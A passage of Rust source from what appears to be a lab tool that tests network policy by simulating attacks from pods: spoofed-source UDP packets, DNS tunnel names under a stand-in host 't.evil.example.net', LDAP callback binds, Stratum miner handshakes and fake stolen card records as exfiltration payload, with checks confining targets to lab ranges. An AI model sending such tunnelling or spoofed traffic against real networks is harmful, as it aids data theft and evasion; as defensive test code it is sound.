        || lab.externals().iter().any(|e| e.addresses.contains(&ip))
        || lab.services().iter().any(|s| s.addresses().contains(&ip));
    if in_lab {
        Ok(())
    } else {
        Err(invalid(
            attack,
            pod,
            format!(
                "{ip} is not an address of lab {:?} (its pods, external hosts, services or node)",
                lab.name()
            ),
        ))
    }
}

/// A spoofed source must be of the target's family, not the pod's own (nor what the
/// datapath counts as its own: IPv6 link-local), a unicast address, and one whose echoes
/// stay in the lab: a pod range or a documentation range (where external hosts live).
fn check_spoofable(lab: &Lab, pod: &Pod, source: IpAddr, target: SocketAddr) -> Result<()> {
    let attack = Attack::Spoofed;
    let bad = |why: String| {
        Err(invalid(
            attack,
            pod,
            format!("spoofed source {source}: {why}"),
        ))
    };
    if source.is_ipv4() != target.is_ipv4() {
        return bad(format!("not of the family of the target {target}"));
    }
    if pod.addresses().contains(&source) {
        return bad("the pod's own address is no spoofing".into());
    }
    let link_local = matches!(source, IpAddr::V6(v6) if v6.is_unicast_link_local());
    if source.is_unspecified() || source.is_multicast() || source.is_loopback() || link_local {
        return bad("not a unicast address the datapath would check".into());
    }
    let ranges = [
        plan::POD_RANGE_V4,
        plan::POD_RANGE_V6,
        "203.0.113.0/24",
        "198.51.100.0/24",
        "2001:db8::/32",
    ];
    let inside = ranges
        .iter()
        .map(|r| r.parse::<IpNet>().expect("literal ranges"))
        .any(|net| net.contains(&source))
        || lab
            .externals()
            .iter()
            .any(|e| e.addresses.contains(&source));
    if inside {
        Ok(())
    } else {
        bad(format!(
            "echoes must stay in the lab: use an address of {}, {} or a documentation range",
            plan::POD_RANGE_V4,
            plan::POD_RANGE_V6
        ))
    }
}

/// The namespace of the lab host (pod or external host) that owns `ip`.
fn owner_netns(lab: &Lab, ip: IpAddr) -> Option<String> {
    lab.pods()
        .iter()
        .find(|p| p.addresses().contains(&ip))
        .map(|p| p.netns.clone())
        .or_else(|| {
            lab.externals()
                .iter()
                .find(|e| e.addresses.contains(&ip))
                .map(|e| e.netns.clone())
        })
}

fn in_pod<T: Send>(pod: &Pod, f: impl FnOnce() -> T + Send) -> Result<T> {
    netns::run_in(&pod.netns, f).map_err(|source| Error::Netns {
        netns: pod.netns.clone(),
        source,
    })
}

// ---- sockets ---------------------------------------------------------------------------

fn connect(target: SocketAddr, timeout: Duration) -> std::io::Result<TcpStream> {
    let socket = Socket::new(Domain::for_address(target), Type::STREAM, None)?;
    socket.connect_timeout(&target.into(), timeout)?;
    let stream: TcpStream = socket.into();
    stream.set_read_timeout(Some(timeout))?;
    stream.set_write_timeout(Some(timeout))?;
    Ok(stream)
}

fn unspecified(target: SocketAddr) -> SocketAddr {
    match target {
        SocketAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, 0).into(),
        SocketAddr::V6(_) => (Ipv6Addr::UNSPECIFIED, 0).into(),
    }
}

fn classify(e: &std::io::Error) -> ProbeResult {
    match e.kind() {
        ErrorKind::ConnectionRefused => ProbeResult::Refused,
        ErrorKind::TimedOut | ErrorKind::WouldBlock => ProbeResult::Timeout,
        _ => ProbeResult::Error(e.to_string()),
    }
}

fn describe(result: &ProbeResult) -> String {
    match result {
        ProbeResult::Ok => "ok".into(),
        ProbeResult::Refused => "refused".into(),
        ProbeResult::Timeout => format!("no answer within {TIMEOUT:?}"),
        ProbeResult::Error(e) => e.clone(),
    }
}

// ---- what goes on the wire ---------------------------------------------------------------

/// The shortest and longest label [`tunnel_name`] makes.
pub const TUNNEL_LABEL_MIN: usize = 30;
pub const TUNNEL_LABEL_MAX: usize = 60;

/// `<random lowercase hex, 30..=60 characters>.<domain>`: data encoded into a name, the way
/// DNS tunnels (iodine, dnscat2) smuggle it out through a resolver.
pub fn tunnel_name(rng: &mut impl Rng, domain: &str) -> String {
    let len = rng.random_range(TUNNEL_LABEL_MIN..=TUNNEL_LABEL_MAX);
    let label: String = (0..len)
        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
        .collect();
    format!("{label}.{}", domain.trim_end_matches('.'))
}

/// A standard query (recursion desired) for the A record of `name`.
pub fn dns_query(id: u16, name: &str) -> Result<Vec<u8>, simple_dns::SimpleDnsError> {
    let mut query = Packet::new_query(id);
    query.set_flags(PacketFlag::RECURSION_DESIRED);
    query.questions.push(Question::new(
        Name::new(name)?,
        QTYPE::TYPE(TYPE::A),
        QCLASS::CLASS(CLASS::IN),
        false,
    ));
    query.build_bytes_vec()
}

/// An LDAPv3 BindRequest with simple authentication, BER-encoded (RFC 4511 section 4.2).
/// Lengths use the short form, so `name` and `password` must be shorter than 100 bytes.
pub fn ldap_simple_bind(message_id: u8, name: &str, password: &str) -> Vec<u8> {
    assert!(
        name.len() < 100 && password.len() < 100,
        "short-form BER lengths only"
    );
    let tlv = |tag: u8, value: &[u8]| {
        let mut out = vec![tag, value.len() as u8];
        out.extend_from_slice(value);
        out
    };
    let version = tlv(0x02, &[3]);
    let name = tlv(0x04, name.as_bytes());
    // [0] IMPLICIT OCTET STRING: the simple password.
    let simple = tlv(0x80, password.as_bytes());
    // [APPLICATION 0] SEQUENCE: BindRequest.
    let bind = tlv(0x60, &[version, name, simple].concat());
    // LDAPMessage SEQUENCE { messageID INTEGER, protocolOp }.
    tlv(0x30, &[tlv(0x02, &[message_id]), bind].concat())
}

/// The first line a Stratum miner sends its pool (newline-terminated JSON-RPC).
pub fn stratum_subscribe(id: u32) -> String {
    format!(
        "{{\"id\":{id},\"method\":\"mining.subscribe\",\"params\":[\"cpuminer-opt/3.23.0\"]}}\n"
    )
}

/// Fake stolen card records, `bytes` long: what the exfiltration attacks carry.
fn card_records(bytes: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes + 64);
    let mut n = 0u64;
    while out.len() < bytes {
        let _ = writeln!(
            &mut out,
            "customer-{n:06},4111{:012},{:02}/{:02}",
            n * 7919 % 1_000_000_000_000,
            n % 12 + 1,
            n % 10 + 26
        );
        n += 1;
    }
    out.truncate(bytes);
    out
}

/// The Internet checksum (RFC 1071) of the concatenation of `parts`.
pub fn internet_checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u64 = 0;
    let mut odd: Option<u8> = None;
    for &byte in parts.iter().flat_map(|p| p.iter()) {
        match odd.take() {
            Some(high) => sum += u64::from(u16::from_be_bytes([high, byte])),
            None => odd = Some(byte),
        }
    }
    if let Some(high) = odd {
        sum += u64::from(high) << 8;
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A UDP header with its checksum over `pseudo` (the IP pseudo-header) and the payload. A
/// computed 0 is sent as 0xffff (0 means "no checksum", which IPv6 forbids).
fn udp(pseudo: &[u8], src_port: u16, dst_port: u16, payload: &[u8]) -> Vec<u8> {
    let len = u16::try_from(8 + payload.len()).expect("payload fits a UDP datagram");
    let mut segment = Vec::with_capacity(8 + payload.len());
    segment.extend_from_slice(&src_port.to_be_bytes());
    segment.extend_from_slice(&dst_port.to_be_bytes());
    segment.extend_from_slice(&len.to_be_bytes());
    segment.extend_from_slice(&[0, 0]);
    segment.extend_from_slice(payload);
    let sum = match internet_checksum(&[pseudo, &segment]) {
        0 => 0xffff,
        s => s,
    };
    segment[6..8].copy_from_slice(&sum.to_be_bytes());
    segment
}

const UDP: u8 = 17;

/// A whole IPv4 datagram: a 20-byte header (DF, TTL 64, no options) and UDP, both
/// checksums computed.
pub fn ipv4_udp(
    src: Ipv4Addr,
    dst: Ipv4Addr,
    src_port: u16,
    dst_port: u16,
    id: u16,
    payload: &[u8],
) -> Vec<u8> {
    let udp_len = u16::try_from(8 + payload.len()).expect("payload fits a UDP datagram");
    let total = u16::try_from(20 + usize::from(udp_len)).expect("datagram fits IPv4");
    let mut pseudo = Vec::with_capacity(12);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, UDP]);
    pseudo.extend_from_slice(&udp_len.to_be_bytes());
    let mut packet = Vec::with_capacity(usize::from(total));
    packet.extend_from_slice(&[0x45, 0]);
    packet.extend_from_slice(&total.to_be_bytes());
    packet.extend_from_slice(&id.to_be_bytes());
    packet.extend_from_slice(&[0x40, 0, 64, UDP, 0, 0]);
    packet.extend_from_slice(&src.octets());
    packet.extend_from_slice(&dst.octets());
    let sum = internet_checksum(&[&packet]);
    packet[10..12].copy_from_slice(&sum.to_be_bytes());
    packet.extend_from_slice(&udp(&pseudo, src_port, dst_port, payload));
    packet
}

/// A whole IPv6 datagram: a 40-byte header (hop limit 64, no extension headers) and UDP
/// with its checksum.
pub fn ipv6_udp(
    src: Ipv6Addr,
    dst: Ipv6Addr,
    src_port: u16,
    dst_port: u16,
    payload: &[u8],
) -> Vec<u8> {
    let udp_len = u16::try_from(8 + payload.len()).expect("payload fits a UDP datagram");
    let mut pseudo = Vec::with_capacity(40);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&u32::from(udp_len).to_be_bytes());
    pseudo.extend_from_slice(&[0, 0, 0, UDP]);
    let mut packet = Vec::with_capacity(40 + usize::from(udp_len));
    packet.extend_from_slice(&[0x60, 0, 0, 0]);
    packet.extend_from_slice(&udp_len.to_be_bytes());
    packet.extend_from_slice(&[UDP, 64]);
    packet.extend_from_slice(&src.octets());
    packet.extend_from_slice(&dst.octets());
    packet.extend_from_slice(&udp(&pseudo, src_port, dst_port, payload));
    packet
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn the_ipv4_header_checksum_matches_a_known_header() {
        // The header of RFC 1071's usual worked example (Wikipedia's "IPv4 header
        // checksum"): 4500 0073 0000 4000 4011 b861 c0a8 0001 c0a8 00c7.
        let packet = ipv4_udp(
            Ipv4Addr::new(192, 168, 0, 1),
            Ipv4Addr::new(192, 168, 0, 199),
            1234,
            53,
            0,
            &[0u8; 0x73 - 28],
        );
        assert_eq!(
            packet[..20],
            [
                0x45, 0x00, 0x00, 0x73, 0x00, 0x00, 0x40, 0x00, 0x40, 0x11, 0xb8, 0x61, 0xc0, 0xa8,
                0x00, 0x01, 0xc0, 0xa8, 0x00, 0xc7
            ]
        );
    }

    #[test]
    fn a_udp_checksum_matches_one_computed_by_hand() {
        // 10.244.0.9:40000 -> 198.51.100.66:9999, payload "hi". Pseudo-header and segment
        // as 16-bit words: 0af4 0009 c633 6442 0011 000a | 9c40 270f 000a 0000 6869.
        // Sum 0x2_614f, folded 0x6151, complement 0x9eae.
        let packet = ipv4_udp(
            Ipv4Addr::new(10, 244, 0, 9),
            Ipv4Addr::new(198, 51, 100, 66),
            40_000,
            9999,
            7,
            b"hi",
        );
        assert_eq!(packet.len(), 30);
        assert_eq!(
            packet[20..28],
            [0x9c, 0x40, 0x27, 0x0f, 0x00, 0x0a, 0x9e, 0xae]
        );
        assert_eq!(&packet[28..], b"hi");
    }

    /// The receiver's check: the checksum over the pseudo-header and segment is 0.
    fn verifies_v4(packet: &[u8]) -> bool {
        let mut pseudo = packet[12..20].to_vec();
        pseudo.extend_from_slice(&[0, UDP]);
        pseudo.extend_from_slice(&packet[24..26]);
        internet_checksum(&[&packet[..20]]) == 0
            && internet_checksum(&[&pseudo, &packet[20..]]) == 0
    }

    fn verifies_v6(packet: &[u8]) -> bool {
        let mut pseudo = packet[8..40].to_vec();
        pseudo.extend_from_slice(&[0, 0]);
        pseudo.extend_from_slice(&packet[4..6]);
        pseudo.extend_from_slice(&[0, 0, 0, UDP]);
        internet_checksum(&[&pseudo, &packet[40..]]) == 0
    }

    proptest! {
        #[test]
        fn built_datagrams_carry_valid_checksums_and_lengths(
            src4 in any::<[u8; 4]>(), dst4 in any::<[u8; 4]>(),
            src6 in any::<[u8; 16]>(), dst6 in any::<[u8; 16]>(),
            sport in any::<u16>(), dport in any::<u16>(), id in any::<u16>(),
            payload in proptest::collection::vec(any::<u8>(), 0..1500),
        ) {
            let v4 = ipv4_udp(src4.into(), dst4.into(), sport, dport, id, &payload);
            prop_assert_eq!(v4.len(), 28 + payload.len());
            prop_assert_eq!(usize::from(u16::from_be_bytes([v4[2], v4[3]])), v4.len());
            prop_assert_eq!(&v4[12..16], &src4);
            prop_assert_eq!(&v4[16..20], &dst4);
            prop_assert_eq!(u16::from_be_bytes([v4[20], v4[21]]), sport);
            prop_assert_eq!(u16::from_be_bytes([v4[22], v4[23]]), dport);
            prop_assert!(verifies_v4(&v4));
            prop_assert_ne!(&v4[26..28], &[0, 0]);

            let v6 = ipv6_udp(src6.into(), dst6.into(), sport, dport, &payload);
            prop_assert_eq!(v6.len(), 48 + payload.len());
            prop_assert_eq!(usize::from(u16::from_be_bytes([v6[4], v6[5]])), 8 + payload.len());
            prop_assert_eq!(v6[6], UDP);
            prop_assert!(verifies_v6(&v6));
            prop_assert_ne!(&v6[46..48], &[0, 0]);
            prop_assert_eq!(&v6[48..], &payload[..]);
        }
    }

    #[test]
    fn the_checksum_of_an_odd_length_pads_with_zero() {
        assert_eq!(internet_checksum(&[&[0x12]]), !0x1200);
        // Parts are one byte stream: a split inside a word changes nothing.
        assert_eq!(
            internet_checksum(&[&[0x12], &[0x34, 0x56]]),
            internet_checksum(&[&[0x12, 0x34, 0x56]])
        );
    }

    #[test]
    fn tunnel_names_are_long_hex_labels_under_the_domain() {
        let rng = &mut rand::rng();
        let mut lengths = BTreeSet::new();
        for _ in 0..500 {
            let name = tunnel_name(rng, "t.evil.example.net.");
            let (label, domain) = name.split_once('.').unwrap();
            assert_eq!(domain, "t.evil.example.net");
            assert!(
                (TUNNEL_LABEL_MIN..=TUNNEL_LABEL_MAX).contains(&label.len()),
                "{name}"
            );
            assert!(
                label
                    .bytes()
                    .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase())
            );
            lengths.insert(label.len());
        }
        assert!(lengths.len() > 10, "lengths vary: {lengths:?}");
    }

    #[test]
    fn dns_queries_ask_for_the_a_record_of_the_name() {
        let name = "0123456789abcdef0123456789abcdef.t.example.net";
        let bytes = dns_query(0xbeef, name).unwrap();
        assert_eq!(bytes[..2], [0xbe, 0xef]);
        let packet = Packet::parse(&bytes).unwrap();
        assert!(!packet.has_flags(PacketFlag::RESPONSE));
        assert!(packet.has_flags(PacketFlag::RECURSION_DESIRED));
        assert_eq!(packet.questions.len(), 1);
        let q = &packet.questions[0];
        assert_eq!(q.qname.to_string(), name);
        assert_eq!(q.qtype, QTYPE::TYPE(TYPE::A));
        assert_eq!(q.qclass, QCLASS::CLASS(CLASS::IN));
        // Header (12), the name as labels (a length byte per label, the final empty
        // label: the name's length + 2), type and class (4).
        assert_eq!(bytes.len(), 12 + name.len() + 2 + 4);
        // A label over 63 characters is refused.
        assert!(dns_query(1, &format!("{}.example.net", "a".repeat(64))).is_err());
    }

    #[test]
    fn the_anonymous_bind_is_well_formed_ber() {
        assert_eq!(ldap_simple_bind(1, "", ""), LDAP_ANONYMOUS_BIND);
        // SEQUENCE of length 12 holding INTEGER 1 and [APPLICATION 0] of length 7.
        assert_eq!(
            usize::from(LDAP_ANONYMOUS_BIND[1]),
            LDAP_ANONYMOUS_BIND.len() - 2
        );
        assert_eq!(LDAP_ANONYMOUS_BIND[2..5], [0x02, 0x01, 0x01]);
        assert_eq!(
            usize::from(LDAP_ANONYMOUS_BIND[6]),
            LDAP_ANONYMOUS_BIND.len() - 7
        );
        // With credentials, lengths grow accordingly.
        let bind = ldap_simple_bind(2, "cn=admin", "pw");
        assert_eq!(bind[1] as usize, bind.len() - 2);
        assert_eq!(&bind[12..20], b"cn=admin");
        assert_eq!(&bind[20..], &[0x80, 2, b'p', b'w']);
    }

    #[test]
    fn the_stratum_line_is_json_rpc() {
        let line = stratum_subscribe(1);
        assert!(line.ends_with('\n'));
        let v: serde_json::Value = serde_json::from_str(line.trim_end()).unwrap();
        assert_eq!(v["method"], "mining.subscribe");
        assert_eq!(v["id"], 1);
    }

    #[test]
    fn card_records_have_the_length_asked_for() {
        for n in [1, 37, 4096, 100_003] {
            let data = card_records(n);
            assert_eq!(data.len(), n);
        }
        assert!(card_records(100).starts_with(b"customer-000000,4111"));
    }

    #[test]
    fn outcomes_read_as_a_sentence() {
        let outcome = Outcome {
            attack: Attack::LdapCallback,
            from: "shop/web".into(),
            target: "198.51.100.66:389".parse().unwrap(),
            attempts: 1,
            succeeded: 0,
            refused: 0,
            timed_out: 1,
            failed: 0,
            bytes_sent: 0,
            bytes_received: 0,
            detail: "no answer within 1s".into(),
        };
        assert!(outcome.blocked());
        assert_eq!(
            outcome.to_string(),
            "ldap-callback from shop/web to 198.51.100.66:389: 0/1 succeeded, 1 timed out \
             (no answer within 1s)"
        );
        let json = serde_json::to_value(&outcome).unwrap();
        assert_eq!(json["attack"], "ldap-callback");
    }
}
